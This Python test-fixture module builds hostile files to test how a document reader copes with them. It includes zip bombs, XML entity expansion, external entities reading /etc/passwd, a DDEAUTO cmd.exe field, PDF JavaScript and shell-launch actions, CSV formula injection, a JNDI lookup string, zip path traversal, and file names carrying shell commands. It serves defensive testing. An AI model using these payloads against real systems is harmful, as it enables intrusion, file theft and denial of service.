"""Files that are meant to do harm, built when they are wanted, with what may become of each.

``build`` writes them into a folder. Most are small by nature; those that need size to hurt are built smaller for the
tests and in full by ``python -m benchmarks.hostile``.
"""

from __future__ import annotations

import gzip
import io
import os
import random
from collections.abc import Callable, Mapping
from functools import partial
from pathlib import Path

from reportlab.lib.pdfencrypt import StandardEncryption

from tests.hostile.making import (
    ENGLISH,
    LAUGHS,
    MIB,
    OLE,
    TEXT,
    XML,
    W,
    looping_tiff,
    overlapping_zip,
    page,
    paragraph,
    pdf,
    plain_word,
    png,
    shown,
    stream,
    word_body,
    word_with,
    zeros_zipped,
    zipped,
)
from tests.reading.making import Pdf

RESULT = "result"
Build = Callable[[bool], bytes]
"""Makes the bytes of a file, in full size or small."""

FILES: dict[str, tuple[Build, frozenset[str]]] = {}
"""By name: what makes the file, and what may come of it: a result, or an error by its code."""


def hostile(name: str, *outcomes: str) -> Callable[[Build], Build]:
    """Enter a function that makes a file."""

    def enter(build: Build) -> Build:
        FILES[name] = build, frozenset(outcomes)
        return build

    return enter


def plain(outcomes: str, files: Mapping[str, bytes | Callable[[], bytes]]) -> None:
    """Enter files of one size with the same outcomes, parted by blanks."""
    for name, content in files.items():
        FILES[name] = _of_one_size(content), frozenset(outcomes.split())


def _of_one_size(content: bytes | Callable[[], bytes]) -> Build:
    return lambda _full: content() if callable(content) else content


def sample_pdf(**options: object) -> bytes:
    made = Pdf(**options)
    made.chinese(TEXT * 3)
    made.table([["指标", "目标"], ["用水量", "84"]], [90, 300, 510])
    return bytes(made.bytes())


# --- archives and Word documents --------------------------------------------------------------------------------------


def laughing_word(encoding: str = "utf-8") -> bytes:
    return word_body(paragraph(f"{TEXT}&l9;"), f"<!DOCTYPE w:document [{LAUGHS}]>", encoding)


def nested(open_: str, inner: str, close: str, times: int) -> str:
    return open_ * times + inner + close * times


def table(inner: str, properties: str = "") -> str:
    return f"<w:tbl><w:tr><w:tc><w:tcPr>{properties}</w:tcPr>{inner}</w:tc></w:tr></w:tbl>"


def related(kind: str, target: str) -> bytes:
    """A document that asks for something from elsewhere when it is opened."""
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    relation = f'<Relationship Id="rId1" Type="{office}/{kind}" Target="{target}" TargetMode="External"/>'
    package = "http://schemas.openxmlformats.org/package/2006/relationships"
    return word_with(
        {"word/_rels/settings.xml.rels": f'{XML}<Relationships xmlns="{package}">{relation}</Relationships>'.encode()}
    )


STYLE = '<w:style w:type="paragraph" w:styleId="{0}"><w:name w:val="{0}"/><w:basedOn w:val="{1}"/></w:style>'
STYLED = '<w:p><w:pPr><w:pStyle w:val="{0}"/><w:outlineLvl w:val="99999999999"/></w:pPr><w:r><w:t>{1}</w:t></w:r></w:p>'


def looping_styles() -> bytes:
    styles = f'{XML}<w:styles xmlns:w="{W}">{STYLE.format("a", "b")}{STYLE.format("b", "a")}</w:styles>'
    body = f'{XML}<w:document xmlns:w="{W}"><w:body>{STYLED.format("a", TEXT)}</w:body></w:document>'
    return word_with({"word/styles.xml": styles.encode(), "word/document.xml": body.encode()})


def endless_numbers() -> bytes:
    level = '<w:lvl w:ilvl="{0}"><w:start w:val="{1}"/><w:numFmt w:val="{2}"/><w:lvlText w:val="{3}"/></w:lvl>'
    text = "%1" * 1000
    levels = level.format(0, 10**18, "upperRoman", text) + level.format(1, -5, "chineseCounting", "%9%99")
    numbering = (
        f'{XML}<w:numbering xmlns:w="{W}"><w:abstractNum w:abstractNumId="0">{levels}</w:abstractNum>'
        '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>'
        '<w:num w:numId="2"><w:abstractNumId w:val="77"/></w:num>'
        "</w:numbering>"
    )
    marked = (
        '<w:p><w:pPr><w:numPr><w:ilvl w:val="{}"/><w:numId w:val="{}"/></w:numPr></w:pPr><w:r><w:t>{}</w:t></w:r></w:p>'
    )
    body = "".join(marked.format(i, n, TEXT) for i, n in ((0, 1), (1, 1), (8, 1), (999, 2), (-1, 1)))
    document = f'{XML}<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'
    return word_with({"word/numbering.xml": numbering.encode(), "word/document.xml": document.encode()})


def with_wrong_sizes() -> bytes:
    """The directory says that the text has ten bytes."""
    content = plain_word()
    at = content.rindex(b"word/document.xml", 0, content.rindex(b"PK\x05\x06"))
    return content[: at - 22] + (10).to_bytes(4, "little") + content[at - 18 :]


def flagged_as_encrypted() -> bytes:
    content = bytearray(plain_word())
    at = content.find(b"PK\x01\x02")
    while at >= 0:
        content[at + 8] |= 1
        at = content.find(b"PK\x01\x02", at + 4)
    return bytes(content)


@hostile("zip-bomb.docx", "too_large")
def zip_bomb(full: bool) -> bytes:
    del full  # it is the size that is refused
    return zeros_zipped("word/document.xml", 310 * MIB)


@hostile("zip-in-zip-in-zip.docx", "too_large")
def zips_in_zips(full: bool) -> bytes:
    return zipped([("word/a", zipped([("b", zipped([("c", zeros_zipped("d", (600 if full else 310) * MIB))]))]))])


@hostile("overlapping-zip.docx", "too_large")
def overlapping(full: bool) -> bytes:
    return overlapping_zip(4000 if full else 700, MIB)


@hostile("many-parts.docx", "too_large")
def many_parts(full: bool) -> bytes:
    return zipped((f"word/{n}", b"") for n in range(60_000 if full else 10_500))


@hostile("many-paragraphs.docx", RESULT, "timeout", "memory")
def many_paragraphs(full: bool) -> bytes:
    return word_body("<w:p/>" * 1000 + paragraph(TEXT) * (100_000 if full else 2_000))


@hostile("deep-tables.docx", RESULT, "nested", "damaged")
def deep_tables(full: bool) -> bytes:
    inner = paragraph(TEXT)
    for _ in range(2000 if full else 120):
        inner = table(inner + "<w:p/>")
    return word_body(inner)


plain(
    "entities",
    {
        "laughs.docx": laughing_word,
        "laughs-utf16.docx": lambda: laughing_word("utf-16"),
        "external-entity.docx": lambda: word_body(
            paragraph(f"{TEXT}&e;"), '<!DOCTYPE w:document [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
        ),
        "entity-from-net.docx": lambda: word_body(
            paragraph(TEXT), '<!DOCTYPE w:document SYSTEM "http://127.0.0.1:9/a.dtd">'
        ),
        "quadratic.docx": lambda: word_body(
            paragraph("&a;" * 5000), f'<!DOCTYPE w:document [<!ENTITY a "{"x" * 50_000}">]>'
        ),
    },
)
plain(
    "nested damaged",
    {
        "deep.docx": lambda: word_body(
            nested("<w:sdt><w:sdtContent>", paragraph(TEXT), "</w:sdtContent></w:sdt>", 400)
        ),
        "very-deep.docx": lambda: word_body(nested("<w:x>", paragraph(TEXT), "</w:x>", 50_000)),
    },
)
plain(
    "damaged",
    {
        "half.docx": lambda: plain_word()[: len(plain_word()) // 2],
        "without-end.docx": lambda: plain_word()[:-40],
        "no-document.docx": lambda: zipped([("word/styles.xml", b"<a/>")]),
        "empty-document.docx": lambda: word_with({"word/document.xml": b""}),
        "half-xml.docx": lambda: word_with({"word/document.xml": f'{XML}<w:document xmlns:w="{W}"><w:body>'.encode()}),
        "no-xml.docx": lambda: word_with({"word/document.xml": b"\0\1\2\3" * 1000}),
        "empty-archive.docx": b"PK\x05\x06" + b"\0" * 18,
        "workbook.docx": lambda: zipped([("xl/workbook.xml", b"<workbook/>"), ("[Content_Types].xml", b"<Types/>")]),
        "slides.docx": lambda: zipped([("ppt/presentation.xml", b"<p/>"), ("[Content_Types].xml", b"<Types/>")]),
    },
)
plain("damaged result", {"wrong-sizes.docx": with_wrong_sizes})
plain(
    "encrypted",
    {
        "encrypted-parts.docx": flagged_as_encrypted,
        "password.docx": OLE + b"\0" * 500 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 500,
    },
)
plain(
    RESULT,
    {
        "template-from-net.docx": lambda: related("attachedTemplate", "http://127.0.0.1:9/evil.dotm"),
        "picture-from-net.docx": lambda: related("image", "file:////127.0.0.1/share/a.png"),
        "paths-out.docx": lambda: word_with({"../../../../tmp/evil.txt": b"evil", "/etc/cron.d/evil": b"evil"}),
        "macros.docx": lambda: word_with({"word/vbaProject.bin": OLE + b"AutoOpen" * 100}),
        "fields.docx": lambda: word_body(
            f'<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>{paragraph(TEXT)}'
        ),
        "wide-cells.docx": lambda: word_body(table(paragraph(TEXT), '<w:gridSpan w:val="2000000000"/>')),
        "negative-cells.docx": lambda: word_body(table(paragraph(TEXT), '<w:gridSpan w:val="-3"/>')),
        "looping-styles.docx": looping_styles,
        "endless-numbers.docx": endless_numbers,
    },
)

# --- PDF --------------------------------------------------------------------------------------------------------------

KIDS = [
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count %d >>",
    b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count %d >>",
]


def looping_pages(count: int) -> bytes:
    return pdf([part % count if b"%d" in part else part for part in KIDS])


def looping_form() -> bytes:
    """A drawing that draws itself."""
    head = b"/Type /XObject /Subtype /Form /BBox [0 0 100 100] /Resources << /XObject << /X 6 0 R >> >>"
    objects = page(stream(shown() + b"/X Do"), resources=b"/XObject << /X 6 0 R >>")
    return pdf([*objects, stream(b"/X Do " * 10, head)])


def picture_pdf(width: int, height: int, content: bytes) -> bytes:
    head = b"/Type /XObject /Subtype /Image /Width %d /Height %d /BitsPerComponent 1 /ColorSpace /DeviceGray"
    objects = page(stream(b"595 0 0 842 0 0 cm /I Do"), resources=b"/XObject << /I 6 0 R >>")
    return pdf([*objects, stream(content, head % (width, height), packed=True)])


def active_pdf() -> bytes:
    actions = b'/OpenAction << /S /JavaScript /JS (app.launchURL\\("http://127.0.0.1:9/"\\)) >> '
    actions += b"/AA << /WC << /S /Launch /F (/bin/sh) >> /DS << /S /URI /URI (http://127.0.0.1:9/) >> >>"
    return pdf(page(stream(shown()), more=actions))


def cut(share: float) -> bytes:
    whole = sample_pdf()
    return whole[: int(len(whole) * share)]


NO_TEXT = "no_text_layer empty"
plain(
    "damaged result " + NO_TEXT,
    {
        **{f"cut-at-{percent}.pdf": partial(cut, percent / 100) for percent in (5, 25, 50, 75, 90, 99)},
        "no-table.pdf": lambda: cut(0.9) + b"%%EOF",
        "wrong-places.pdf": lambda: pdf(page(stream(shown())), shift=37),
        "wrong-length.pdf": lambda: pdf(page(b"<< /Length 99999999999 >>\nstream\n" + shown() + b"\nendstream")),
        "negative-length.pdf": lambda: pdf(page(b"<< /Length -1 >>\nstream\n" + shown() + b"\nendstream")),
        "own-length.pdf": lambda: pdf(page(b"<< /Length 4 0 R >>\nstream\n" + shown() + b"\nendstream")),
        "bad-filter.pdf": lambda: pdf(page(stream(b"\xff" * 999, b"/Filter [" + b"/FlateDecode " * 500 + b"]"))),
        "only-a-head.pdf": b"%PDF-1.7\n",
        "deep-arrays.pdf": lambda: pdf([*page(stream(shown())), b"[" * 100_000 + b"]" * 100_000]),
        "deep-text.pdf": lambda: pdf(page(stream(b"q " * 50_000 + shown() + b"[" * 20_000))),
        "huge-page.pdf": lambda: pdf(page(stream(shown()), box=b"0 0 1000000000 1000000000")),
        "no-page-size.pdf": lambda: pdf(page(stream(shown()), box=b"0 0 0 0")),
        "negative-page.pdf": lambda: pdf(page(stream(shown()), box=b"595 842 -10 -10")),
        "nan-page.pdf": lambda: pdf(page(stream(shown()), box=b"0 0 nan 1e400")),
        "own-catalog.pdf": lambda: pdf(page(stream(shown())), root=4),
        "looping-pages.pdf": lambda: looping_pages(2),
        "program.pdf": b"\x7fELF\2\1\1" + b"\0" * 500,
        "page.pdf": f"<html><body><p>{TEXT}</p></body></html>".encode(),
        "polyglot.pdf": lambda: b"GIF89a" + b"\0" * 100 + sample_pdf(),
        "random.pdf": lambda: b"%PDF-1.4\n" + random.Random(7).randbytes(50_000),
    },
)
plain("too_many_pages damaged " + NO_TEXT, {"million-pages.pdf": lambda: looping_pages(1_000_000)})
plain("encrypted", {"password.pdf": lambda: sample_pdf(encrypt=StandardEncryption("secret", "owner"))})
plain("result", {"owner-password.pdf": lambda: sample_pdf(encrypt=StandardEncryption("", "owner", canPrint=0))})
plain(
    "result",
    {
        "active.pdf": active_pdf,
        "word.pdf": plain_word,
    },
)


# A drawing drawn by itself ten times over fills any memory; pdfium ends the process then.
plain("crashed memory timeout", {"looping-form.pdf": looping_form})


@hostile("stream-bomb.pdf", "result", "memory", "timeout", "damaged", *NO_TEXT.split())
def stream_bomb(full: bool) -> bytes:
    return pdf(page(stream(shown() + b" " * ((900 if full else 30) * MIB), packed=True)))


@hostile("picture-bomb.pdf", "result", "memory", "timeout", *NO_TEXT.split())
def picture_bomb(full: bool) -> bytes:
    side = 60_000 if full else 8_000
    return picture_pdf(side, side, b"\xaa" * (side * side // 8 if full else side))


@hostile("many-letters.pdf", "result", "timeout", "memory")
def many_letters(full: bool) -> bytes:
    return pdf(
        page(stream(b"BT /F 1 Tf 72 700 Td " + b"(a) Tj 0 -1 Td " * (500_000 if full else 10_000) + b"ET " + shown()))
    )


@hostile("grid.pdf", "result", "timeout")
def grid(full: bool) -> bytes:
    count = 9_000 if full else 1_500
    lines = b"".join(b"0 %f m 595 %f l S %f 0 m %f 842 l S\n" % ((n * 0.05,) * 4) for n in range(count))
    return pdf(page(stream(lines + shown())))


# --- web pages --------------------------------------------------------------------------------------------------------


def web(body: str, head: str = "") -> bytes:
    return f"<html><head>{head}</head><body>{body}</body></html>".encode()


plain(
    "nested",
    {
        "deep.html": b"<html><body>" + b"<div>" * 5000 + TEXT.encode(),
        "deep-tables.html": b"<html><body>" + b"<table><tr><td>" * 2000 + TEXT.encode(),
        "deep-lists.html": b"<html><body>" + b"<ul><li>" * 20_000 + TEXT.encode(),
    },
)
plain(
    "result nested",
    {
        "never-closed.html": b"<html><body>" + b"<b><i><font>" * 30_000 + TEXT.encode(),
        "never-closed-paragraphs.html": b"<html><body><p>" + b"<p>" * 50_000 + TEXT.encode(),
    },
)
plain(
    "result",
    {
        "laughs.html": f"<!DOCTYPE html [{LAUGHS}]><html><body><p>{TEXT}&l9;</p></body></html>".encode(),
        "laughs.xhtml": f'{XML}<!DOCTYPE html [{LAUGHS}]><html xmlns="http://www.w3.org/1999/xhtml"><body><p>{TEXT}&l9;</p>'
        "</body></html>".encode(),
        "external.xhtml": f'{XML}<!DOCTYPE html [<!ENTITY e SYSTEM "file:///etc/passwd">]><html><body><p>{TEXT}&e;'
        "</p></body></html>".encode(),
        "refresh.html": web(
            f"<script>while(1){{}}</script><iframe src='http://127.0.0.1:9/'></iframe><p>{TEXT}</p>"
            "<img src='http://127.0.0.1:9/a.png' onerror='alert(1)'><object data='file:///etc/passwd'></object>",
            "<meta http-equiv='refresh' content='0;url=http://127.0.0.1:9/'><base href='http://127.0.0.1:9/'>"
            "<link rel=stylesheet href='http://127.0.0.1:9/a.css'>",
        ),
        "include.html": web(f"<xi:include href='file:///etc/passwd' parse='text'/><p>{TEXT}</p>"),
        "wide-cells.html": web(
            f"<table><tr><td colspan=999999999 rowspan=999999999>{TEXT}</td><td>5%</td></tr></table>"
        ),
        "wrong-cells.html": web(f"<table><tr><td colspan=-1 rowspan=1e9>{TEXT}</td><td colspan=a>5%</td></tr></table>"),
        "attributes.html": web(f"<p {' '.join(f'a{n}=1' for n in range(20_000))}>{TEXT}</p>"),
        "long-attribute.html": web(f"<p title='{'x' * (3 * MIB)}'>{TEXT}</p>"),
        "data-address.html": web(f"<img src='data:image/png;base64,{'A' * (3 * MIB)}'><p>{TEXT}</p>"),
        "references.html": web(f"<p>{TEXT}&#xD800;&#999999999999;&#0;&#x1F4A9;&notit;&#x202E;</p>"),
        "nul.html": web(f"<p>{TEXT}</p>\0\0<p>5\0%</p>"),
        "wrong-charset.html": web(f"<p>{TEXT}</p>", "<meta charset=utf-7>"),
        "unknown-charset.html": web(f"<p>{TEXT}</p>", "<meta charset='../../etc/passwd'>"),
        "two-encodings.html": web(f"<p>{TEXT}</p>") + "<p>能耗下降18%</p>".encode("gb18030") + b"\xff\xfe\x00",
        "drawing.html": web(f"<svg><!DOCTYPE svg [{LAUGHS}]><text>&l9;</text></svg><p>{TEXT}</p>"),
    },
)
plain(
    "result empty damaged",
    {
        "comment.html": b"<html><body><!--" + b"<!-- " * 50_000,
        "script.html": f"<html><body><script>{TEXT * 100}".encode(),
        "cdata.html": b"<html><body>" + b"<![CDATA[" * 20_000 + TEXT.encode(),
        "brackets.html": b"<" * 200_000,
        "frames.html": b"<html><frameset><frame src='file:///etc/passwd'></frameset></html>",
    },
)

# --- text -------------------------------------------------------------------------------------------------------------


@hostile("one-line.txt", "result", "memory", "timeout")
def one_line(full: bool) -> bytes:
    size = (50 if full else 1) * MIB
    return (TEXT * (size // len(TEXT.encode()) + 1)).encode()


@hostile("one-word.txt", "result", "memory", "timeout")
def one_word(full: bool) -> bytes:
    return b"a" * ((50 if full else 2) * MIB)


@hostile("lines.txt", "result", "memory", "timeout")
def lines(full: bool) -> bytes:
    return TEXT.encode() + b"\n" * ((20 if full else 1) * 1_000_000)


@hostile("over-the-limit.txt", "too_large")
def over_the_limit(full: bool) -> bytes:
    del full  # built sparsely by ``build``: a byte at the end of a hole
    return b""


plain(
    "result",
    {
        "digits.txt": TEXT.encode() + b"9" * 100_000 + "吨".encode(),
        "digits-and-commas.txt": ("1," * 50_000 + "000吨").encode(),
        "numerals.txt": ("一百万亿零三" * 15_000 + "吨。" + TEXT).encode(),
        "percent-signs.txt": ("5%、" * 30_000).encode(),
        "years.txt": ("2020年至" * 20_000).encode(),
        "brackets.txt": ("（《“" * 30_000 + TEXT).encode(),
        "right-to-left.txt": f"\u202e{TEXT}\u202c\u2066{TEXT}\u2069\u200f18\u200e%\u061c".encode(),
        "combining.txt": (TEXT + "5" + "\u0301" * 50_000 + "%").encode(),
        "blanks-between.txt": "\u200b".join(TEXT).encode(),
        "emoji.txt": (TEXT + "👨‍👩‍👧‍👦" * 10_000).encode(),
        "surrogates.txt": TEXT.encode() + "\ud800 5% \udfff".encode("utf-8", "surrogatepass"),
        "surrogates-utf16.txt": b"\xff\xfe" + TEXT.encode("utf-16-le") + b"\x00\xd8" + "下降5%".encode("utf-16-le"),
        "formulas.txt": f"=cmd|' /C calc'!A0\n@SUM(1+9)*cmd|' /C calc'!A0\n+1\n-1\t=1+1\n{TEXT}".encode(),
        "markup.txt": f"<script>alert(1)</script> {TEXT} $(rm -rf /) `id` ${{jndi:ldap://127.0.0.1/a}}".encode(),
        "two-encodings.txt": TEXT.encode() + "能耗下降18%".encode("gb18030") + "año 5%".encode("latin-1"),
        "cut-letter.txt": TEXT.encode("gb18030")[:-1],
        "utf16-without-mark.txt": TEXT.encode("utf-16-le"),
        "utf32.txt": TEXT.encode("utf-32"),
        "private.txt": (TEXT + "".join(map(chr, range(0xE000, 0xE400))) + "\U0010ffff\ufffe").encode(),
        "table.md": ("|" * 50_000 + "\n" + "|-" * 50_000 + "\n| a | 5% |\n").encode(),
        "marks.md": ("#" * 50_000 + " [" * 20_000 + "](" * 20_000 + TEXT).encode(),
        "nested.txt": ('{"a":[' * 50_000 + TEXT).encode(),
    },
)
plain(
    "binary",
    {
        "escapes.txt": f"\x1b]0;evil\x07\x1b[2J\x1b[31m{TEXT}\x1b[0m\x08\x08".encode(),
    },
)
plain("result empty binary", {"nul.txt": TEXT.encode() + b"\0" * 5000 + "下降5%".encode()})
plain(
    "empty",
    {
        "empty.txt": b"",
        "empty.pdf": b"",
        "empty.docx": b"",
        "mark-only.txt": b"\xef\xbb\xbf",
        "mark-only-utf16.txt": b"\xff\xfe",
        "blank.txt": b" \t\r\n" * 10_000,
    },
)
plain("result empty binary damaged", {"random.txt": lambda: random.Random(5).randbytes(60_000)})

# --- what is not what its name says -----------------------------------------------------------------------------------


@hostile("gzip-bomb.html", "unsupported")
def gzip_bomb(full: bool) -> bytes:
    buffer = io.BytesIO()
    with gzip.GzipFile(fileobj=buffer, mode="wb", mtime=0) as stream_:
        for _ in range(1000 if full else 50):
            stream_.write(b"\0" * MIB)
    return buffer.getvalue()


@hostile("picture-bomb.png", "too_large", "picture", "damaged")
def picture_bomb_png(full: bool) -> bytes:
    side = 60_000 if full else 12_000
    return png(side, side, b"\0" * (20 * MIB if full else MIB))


NO_PICTURE = "picture damaged no_text_layer"
plain("binary", {"word.txt": plain_word, "pdf.txt": sample_pdf})
plain(
    "unsupported", {"plan.xlsx": b"PK\x03\x04xl", "drawing.svg": f"<!DOCTYPE svg [{LAUGHS}]><svg>&l9;</svg>".encode()}
)
plain(
    "unsupported",
    {
        "laughs.xml": f"<!DOCTYPE a [{LAUGHS}]><a>&l9;</a>".encode(),
        "deep.json": b"[" * 100_000 + b"]" * 100_000,
        "formulas.csv": b"=cmd|' /C calc'!A0,1\n",
        "plan.ofd": b"PK\x03\x04",
        "plan.exe": b"MZ",
        "plan.zip": lambda: zipped([("a.txt", b"a")]),
    },
)
plain(
    NO_PICTURE,
    {
        "picture.pdf": lambda: png(40, 40, (b"\0" + b"\xff" * 40) * 40),
        "cut.jpg": b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0",
        "cut.png": lambda: png(400, 400, b"\0" * 1000)[:-30],
        "no-size.png": lambda: png(0, 0, b""),
    },
)
plain(NO_PICTURE + " too_many_pages timeout result", {"looping.tif": looping_tiff})
plain(
    "needs_libreoffice damaged office_failed empty result timeout",
    {
        "old.doc": OLE + b"\0" * 3000,
        "old.wps": OLE + random.Random(3).randbytes(3000),
        "braces.rtf": b"{\\rtf1" + b"{" * 100_000,
        "objects.rtf": b"{\\rtf1{\\object\\objupdate{\\*\\objclass Excel}}" + ENGLISH.encode() + b"}",
    },
)
plain("result", {"pdf.docx": sample_pdf, "page.doc": web(f"<p>{TEXT}</p>"), "word.doc": plain_word})

NAMES = {
    "name with\nnewline.txt": "result",
    "name\twith\x1b[31mescapes.txt": "result",
    "😀 方案 ®.txt": "result",
    "..  ..txt": "unsupported result",
    "-rf.txt": "result",
    "$(id) `id` ; rm -rf *.txt": "result",
    "CON.txt": "result",
    "a" * 240 + ".txt": "result",
    "%00%2e%2e%2f.txt": "result",
    "\u202etxt.exe.txt": "result",
    "no suffix": "result",
}
"""Harmless files with names that are not."""


def build(folder: Path, *, full: bool = False) -> dict[str, frozenset[str]]:
    """Write every file into a folder; gives for each name what may become of it.

    ``folder`` must be empty. Beside files it gets links, a pipe and a folder with the name of a file.
    """
    expected: dict[str, frozenset[str]] = {}
    for name, (make, outcomes) in FILES.items():
        (folder / name).write_bytes(make(full))
        expected[name] = outcomes
    with (folder / "over-the-limit.txt").open("wb") as hole:
        hole.truncate(201 * MIB)
    for name, outcome in NAMES.items():
        (folder / name).write_text(TEXT, encoding="utf-8")
        expected[name] = frozenset(outcome.split())
    if os.name == "posix":
        expected |= _special(folder)
    return expected


def _special(folder: Path) -> dict[str, frozenset[str]]:
    """What is no file, or leads elsewhere."""
    raw = os.fsencode(folder) + b"/\xff\xfe not unicode.txt"
    Path(os.fsdecode(raw)).write_text(TEXT, encoding="utf-8")
    os.mkfifo(folder / "pipe.txt")
    (folder / "zeros.txt").symlink_to("/dev/zero")
    (folder / "nothing.txt").symlink_to("/dev/null")
    (folder / "nowhere.txt").symlink_to(folder / "none")
    (folder / "itself.txt").symlink_to(folder / "itself.txt")
    (folder / "up.txt").symlink_to("..")
    (folder / "link.txt").symlink_to(folder / "cut-letter.txt")
    return {
        os.fsdecode(raw).rsplit("/", 1)[-1]: frozenset({RESULT}),
        "pipe.txt": frozenset({"unsupported"}),
        "zeros.txt": frozenset({"unsupported"}),
        "nothing.txt": frozenset({"unsupported"}),
        "nowhere.txt": frozenset({"missing", "unreadable"}),
        "itself.txt": frozenset({"missing", "unreadable"}),
        "up.txt": frozenset({"directory"}),
    }
